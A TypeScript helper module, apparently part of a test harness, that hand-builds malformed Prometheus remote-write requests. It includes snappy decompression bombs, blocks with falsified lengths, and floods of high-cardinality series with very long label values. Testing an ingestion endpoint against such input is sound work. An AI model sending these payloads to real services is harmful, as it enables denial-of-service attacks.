/**
 * Requests as an attacker writes them: bombs, labels without end, new series with the longest names. By
 * hand, since libraries refuse to. Used by attack.ts.
 */
import { compress } from 'snappyjs';

const text = new TextEncoder();

function varint(value: number): Uint8Array {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 127; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  return Uint8Array.from([...bytes, rest]);
}

function field(number: number, content: Uint8Array): Uint8Array {
  return Buffer.concat([varint(number * 8 + 2), varint(content.length), content]);
}

/** Labels as they are encoded. */
export function labels(list: readonly (readonly [string, string])[]): Uint8Array {
  return Buffer.concat(
    list.map(([name, value]) =>
      field(1, Buffer.concat([field(1, text.encode(name)), field(2, text.encode(value))])),
    ),
  );
}

/** One sample. */
export function sample(ms: number, value: number): Uint8Array {
  const bytes = Buffer.alloc(9);
  bytes[0] = 9;
  bytes.writeDoubleLE(value, 1);
  return field(2, Buffer.concat([bytes, Uint8Array.of(16), varint(ms)]));
}

/** One series of a request. */
export function series(encodedLabels: Uint8Array, ...samples: readonly Uint8Array[]): Uint8Array {
  return field(1, Buffer.concat([encodedLabels, ...samples]));
}

/** A request, compressed. */
export function body(...list: readonly Uint8Array[]): Uint8Array {
  return compress(Buffer.concat(list));
}

/** A block that says that it is so large, and is not. */
export function lie(bytes: number): Uint8Array {
  return Buffer.concat([varint(bytes), Uint8Array.of(0, 1)]);
}

/** A valid block of zeros: copies of 64 bytes, each in three. */
export function bomb(bytes: number): Uint8Array {
  const copies = Math.floor((bytes - 1) / 64);
  const block = Buffer.alloc(2 + 3 * copies);
  for (let i = 0; i < copies; i++) block.set([0xfe, 1, 0], 2 + 3 * i);
  return Buffer.concat([varint(1 + 64 * copies), block]);
}

/** The limit of the door, as a block without compression: names that nobody has seen. */
export function greatest(bytes: number, metric: string): Uint8Array {
  const list: Uint8Array[] = [];
  let length = 0;
  for (let i = 0; length < bytes - 4096; i++) {
    const one = series(
      labels([
        ['__name__', metric],
        ['id', `${i} ${'x'.repeat(1500)}`],
      ]),
      sample(1000, i),
    );
    list.push(one);
    length += one.length;
  }
  const raw = Buffer.concat(list);
  const pieces: Uint8Array[] = [varint(raw.length)];
  for (let at = 0; at < raw.length; at += 65_536) {
    const piece = raw.subarray(at, at + 65_536);
    const head = Buffer.from([61 << 2, 0, 0]);
    head.writeUInt16LE(piece.length - 1, 1);
    pieces.push(head, piece);
  }
  return Buffer.concat(pieces);
}
